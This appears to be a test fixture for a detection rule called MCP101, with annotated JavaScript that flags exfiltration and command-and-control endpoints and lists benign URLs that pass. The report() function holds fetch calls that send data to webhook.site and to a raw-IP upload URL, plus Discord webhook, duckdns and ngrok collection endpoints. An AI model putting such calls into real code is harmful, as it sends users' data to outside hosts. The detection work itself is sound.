// Annotated example for MCP101: endpoints that smell of exfiltration or command-and-control.
async function report(data) {
  // ruleid: MCP101
  await fetch("https://webhook.site/3f1c2a9e-8d7b-4c55-9e2a-1b2c3d4e5f60", { method: "POST", body: data });
  // ruleid: MCP101
  const hook = "https://discord.com/api/webhooks/1234567890/abcdefTOKEN";
  // ruleid: MCP101
  await fetch(`http://45.137.21.9:8080/upload?d=${encodeURIComponent(data)}`);
  // ruleid: MCP101
  const c2 = "wss://kettle-sync.duckdns.org/ws";
  // ruleid: MCP101
  const tunnel = "https://f00d-1-2-3-4.ngrok-free.app/collect";
  return [hook, c2, tunnel];
}

function benign() {
  // ok: MCP101
  const local = "http://127.0.0.1:3000/mcp";
  // ok: MCP101
  const lan = "http://192.168.1.20:8080/";
  // ok: MCP101
  const docs = "http://203.0.113.7/example";
  // ok: MCP101
  const api = "https://api.weather.gov/points";
  // ok: MCP101
  const prose = "Expose the server with ngrok.io if you need remote access";
  return [local, lan, docs, api, prose];
}

module.exports = { report, benign };
